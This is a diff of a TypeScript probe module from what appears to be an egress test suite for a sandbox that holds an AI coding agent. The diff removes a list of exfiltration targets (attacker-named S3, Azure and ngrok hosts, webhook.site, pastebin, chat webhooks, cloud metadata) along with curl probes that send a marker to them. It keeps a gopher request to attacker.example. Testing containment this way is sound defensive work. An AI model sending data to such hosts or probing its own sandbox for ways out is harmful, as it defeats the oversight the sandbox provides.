@@ -1,39 +1,11 @@
-/** Other sandboxes, hosts of the setup phase, popular places for loot, and proxies: each a host that some allowlist somewhere lets through. */
-import { curl, notGranted, script, type Group, type Place, type Probe } from '../probe.ts';
+/**
+ * Other ways to other hosts: proxies, other protocols, the attacker's host outside, and what is left of other
+ * sandboxes.
+ */
+import { curl, notGranted, script, type Place, type Probe } from '../probe.ts';
 
-const places: readonly (readonly [host: string, what: string])[] = [
-  ['cdn.jsdelivr.net', 'packages, after setup'],
-  ['files.pythonhosted.org', 'others'],
-  ['proxy.golang.org', 'a third place for them, whose paths can carry data'],
-  ['archive.ubuntu.com', 'the distribution'],
-  ['pastebin.com', 'a place for text'],
-  ['hooks.slack.com', 'a chat’s webhook'],
-  ['discord.com', 'another chat’s'],
-  ['attacker.s3.amazonaws.com', 'a bucket'],
-  ['attacker.blob.core.windows.net', 'another one'],
-  ['attacker.ngrok.app', 'a tunnel'],
-  ['attacker.workers.dev', 'a worker'],
-  ['webhook.site', 'a request catcher'],
-  ['chatgpt.com', 'the model’s other face'],
-  ['api.anthropic.com', 'another model'],
-  ['metadata.google.internal', 'the cloud’s metadata by name'],
-  ['localhost', 'this machine by name'],
-  ['host.docker.internal', 'the machine outside by name'],
-  ['airlock', 'itself by name'],
-];
-
-export const otherDoors: Group = {
-  name: 'other-doors',
-  about: 'other hosts, proxies, other sandboxes, the control line',
-  probes: (place: Place): readonly Probe[] => [
-    ...places.map(([host, what]) =>
-      curl(
-        `host-${host}`,
-        `${what}: ${host}`,
-        ['--resolve', `${host}:443:127.0.0.1`, '-d', place.marker, `https://${host}/${place.marker}`],
-        [...notGranted, '403 host.reserved', '403 phase.closed'],
-      ),
-    ),
+export function otherDoors(place: Place): readonly Probe[] {
+  return [
     curl(
       'proxy-http',
       'the gateway as a proxy',
@@ -83,25 +55,6 @@ export const otherDoors: Group = {
       [`gopher://attacker.example:80/_${place.marker}`],
       ['curl error 52', 'curl error 1', 'curl error 56', 'curl error 0'],
     ),
-    curl(
-      'canary-nonce',
-      'the canary with a guessed nonce',
-      ['https://canary.airlock.invalid/0123456789abcdef0123456789abcdef'],
-      ['403 canary.mismatch'],
-    ),
-    curl(
-      'canary-upload',
-      'an upload to the canary',
-      ['-d', place.marker, 'https://canary.airlock.invalid/x'],
-      ['403 canary.mismatch'],
-    ),
-    curl(
-      'canary-subdomain',
-      'a name below the canary’s',
-      [`https://${place.marker}.canary.airlock.invalid/`],
-      ['403 canary.mismatch'],
-    ),
-    curl('punycode', 'a name in Punycode', [`https://xn--80ak6aa92e.com/${place.marker}`], notGranted),
     curl(
       'address-decimal',
       'an address as one number',
@@ -156,5 +109,5 @@ export const otherDoors: Group = {
       `for f in /proc/[0-9]*/fd/*; do readlink "$f"; done 2>/dev/null | grep -vE '^(pipe|socket|anon_inode|/memfd):|^/(dev/(null|urandom|zero)|opt|tmp|run/airlock|workspace|home/codex|proc|usr|etc)(/|$| )' | sort -u | head -n 1 | grep . || echo none`,
       ['none'],
     ),
-  ],
-};
+  ];
+}
